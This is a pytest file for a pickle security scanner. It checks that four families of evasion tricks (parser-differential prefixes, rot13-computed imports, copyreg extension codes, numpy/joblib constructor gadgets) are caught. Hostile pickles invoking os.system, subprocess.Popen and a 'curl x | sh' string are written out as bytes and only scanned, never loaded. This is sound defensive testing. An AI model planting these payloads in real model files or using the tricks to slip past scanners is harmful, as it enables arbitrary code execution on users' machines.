"""The four families of issue 10, each proven on the real thing: a benign twin (a harmless
target, `builtins.len`) shows with CPython, torch, numpy or joblib that loading goes on past the
trick; the hostile twin (`os.system`) is then only scanned, never loaded.

Family 1 runs under every CPython the machine has (3.10 and 3.11 required under CI=true).
"""
from __future__ import annotations

import io
import json
import os
import pickle
import subprocess
import sys
import tempfile

import pytest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from test_scan_differential import PTVIEW, PYTHONS  # noqa: E402

BENIGN = b"cbuiltins\nlen\n(S'ab'\ntR."
HOSTILE = b"cos\nsystem\n(S'id'\ntR."


def scan(data: bytes, suffix: str = ".pkl") -> dict:
    with tempfile.NamedTemporaryFile(suffix=suffix, delete=False) as f:
        f.write(data)
        path = f.name
    try:
        result = subprocess.run([PTVIEW, "scan", "--json", path], capture_output=True, text=True)
        report = json.loads(result.stdout)
        return report["files"][0] | {"verdict": report["verdict"]}
    finally:
        os.unlink(path)


def cpython_loads(python: str, data: bytes):
    """pickle.loads in another interpreter; the benign twin's value, or None when it fails."""
    code = "import pickle,sys; print(repr(pickle.loads(sys.stdin.buffer.read())))"
    result = subprocess.run([python, "-c", code], input=data, capture_output=True)
    return result.stdout.decode().strip() if result.returncode == 0 else None


# MARK: - 1. Parser differentials

PREFIXES = [
    b"I0x1\n0", b"I0X1F\n0", b"I0o7\n0", b"I0b1\n0", b"I1_0\n0", b"I 1 \n0", b"I010\n0", b"I1\x00zz\n0",
    b"I\x00\n0", b"I0_0\n0", b"L0x1950a86a20f9469cfc6cL\n0", b"L1_0L\n0", b"L 0x1 L\n0", b"L1\x00zzL\n0",
    b"F1.5\x00zz\n0", b"Np 1_0\n0g1_0\n0", b"Np00\n0g+0\n0", b"\x80\x05\x80\x02", b"G\x00\x00\x00\x00\x00\x00\x00\x00Nb0",
]


@pytest.mark.parametrize("prefix", PREFIXES, ids=lambda p: repr(p)[2:-1][:24])
def test_parser_differentials_are_followed(prefix):
    loaded_by = [v for v, python in sorted(PYTHONS.items()) if cpython_loads(python, prefix + BENIGN) == "2"]
    assert loaded_by, "no local CPython loads past this prefix: the case proves nothing"
    report = scan(prefix + HOSTILE)
    assert report["verdict"] == "dangerous", (loaded_by, report)


def test_legacy_magic_number_as_text():
    """torch.load's legacy reader takes the magic number from pickle.load: `int(x, 0)` text works."""
    torch = pytest.importorskip("torch") if os.environ.get("CI") != "true" else __import__("torch")
    magic = b"L0x1950a86a20f9469cfc6cL\n."
    rest = pickle.dumps(1001, protocol=2) + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                                          "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    tail = pickle.dumps([], protocol=2)
    with tempfile.NamedTemporaryFile(suffix=".pt", delete=False) as f:
        f.write(magic + rest + BENIGN + tail)
        path = f.name
    try:
        assert torch.load(path, weights_only=False) == 2  # the benign twin: torch reads past
    finally:
        os.unlink(path)
    report = scan(magic + rest + HOSTILE + tail, ".pt")
    assert report["verdict"] == "dangerous", report


# MARK: - 2. Computed imports

def computed(module: bytes, name: bytes, arg: bytes) -> bytes:
    """STACK_GLOBAL(_codecs.encode(module, 'rot13'), _codecs.encode(name, 'rot13'))(arg)."""
    def rot(text: bytes) -> bytes:
        return b"\x8c\x07_codecs\x8c\x06encode\x93\x8c" + bytes([len(text)]) + text + b"\x8c\x05rot13\x86R"
    return b"\x80\x04" + rot(module) + rot(name) + b"\x93\x8c" + bytes([len(arg)]) + arg + b"\x85R."


def test_computed_imports_are_dangerous():
    benign = computed(b"ohvygvaf", b"yra", b"ab")  # builtins.len
    assert pickle.loads(benign) == 2
    report = scan(computed(b"bf", b"flfgrz", b"id"))  # os.system
    assert report["verdict"] == "dangerous", report
    assert any(f["kind"] == "imports a global whose name is computed at load time" for f in report["findings"])
    # The module as a global's value (os.sep is a str): still computed at load time.
    assert scan(b"\x80\x04\x8c\x02os\x8c\x03sep\x93\x8c\x06system\x93\x8c\x02id\x85R.")["verdict"] == "dangerous"


# MARK: - 3. Extension codes

def test_extension_code_calls():
    import copyreg
    benign = b"\x80\x02\x82\xf0X\x02\x00\x00\x00ab\x85R."
    copyreg.add_extension("builtins", "len", 240)
    try:
        assert pickle.loads(benign) == 2  # the loading process's registry decides
    finally:
        copyreg.remove_extension("builtins", "len", 240)
    command = scan(b"\x80\x02\x82\xf0X\x0b\x00\x00\x00curl x | sh\x85R.")
    assert command["verdict"] == "dangerous", command
    plain = scan(b"\x80\x02\x82\xf0X\x05\x00\x00\x00hello\x85R.")
    assert plain["verdict"] == "unscannable", plain
    assert any("240" in (f["global"] or "") for f in plain["findings"])


# MARK: - 4. numpy random states and joblib arrays

def test_numpy_random_states_are_suspicious():
    np = pytest.importorskip("numpy") if os.environ.get("CI") != "true" else __import__("numpy")
    objects = [np.random.RandomState(0), np.random.default_rng(1), np.random.MT19937(2), np.random.PCG64(3),
               np.random.Philox(4), np.random.SFC64(5), np.random.Generator(np.random.PCG64DXSM(6))]
    for obj in objects:
        for protocol in range(0, pickle.HIGHEST_PROTOCOL + 1):
            data = pickle.dumps(obj, protocol=protocol)
            report = scan(data)
            assert report["verdict"] == "suspicious", (type(obj).__name__, protocol, report)


def test_numpy_random_constructors_are_no_loophole():
    # __randomstate_ctor(name, ctor) calls ctor(name): with os.system it runs a command.
    hostile = (b"\x80\x02cnumpy.random._pickle\n__randomstate_ctor\ncos\nsystem\n"
               b"X\x02\x00\x00\x00id\x86R.")
    assert scan(hostile)["verdict"] == "dangerous"
    popen = b"\x80\x02cnumpy.random._pickle\n__bit_generator_ctor\ncsubprocess\nPopen\n\x85R."
    assert scan(popen)["verdict"] == "dangerous"


class _Len:
    def __reduce__(self):
        return (len, ("ab",))


class _System:
    def __reduce__(self):
        return (os.system, ("id",))


def test_joblib_streams():
    np = pytest.importorskip("numpy") if os.environ.get("CI") != "true" else __import__("numpy")
    joblib = pytest.importorskip("joblib") if os.environ.get("CI") != "true" else __import__("joblib")
    data = {"a": np.arange(5), "f": np.ones((2, 3), dtype="f4"), "u": np.zeros(2, dtype="U3"),
            "o": np.array([1, "x", None], dtype=object), "e": np.zeros((0,)),
            "s": np.zeros(2, dtype=[("x", "i4"), ("y", "f8")]), "r": np.random.RandomState(1)}
    for protocol in (2, 3, 4, 5):
        buffer = io.BytesIO()
        joblib.dump(data, buffer, protocol=protocol)
        report = scan(buffer.getvalue(), ".joblib")
        assert report["verdict"] == "suspicious", (protocol, report)
        # The benign twin: joblib reads on after the raw array bytes.
        buffer = io.BytesIO()
        joblib.dump([np.arange(7), _Len()], buffer, protocol=protocol)
        buffer.seek(0)
        assert joblib.load(buffer)[1] == 2
        buffer = io.BytesIO()
        joblib.dump([np.arange(7), _System()], buffer, protocol=protocol)
        report = scan(buffer.getvalue(), ".joblib")
        assert report["verdict"] == "dangerous", (protocol, report)
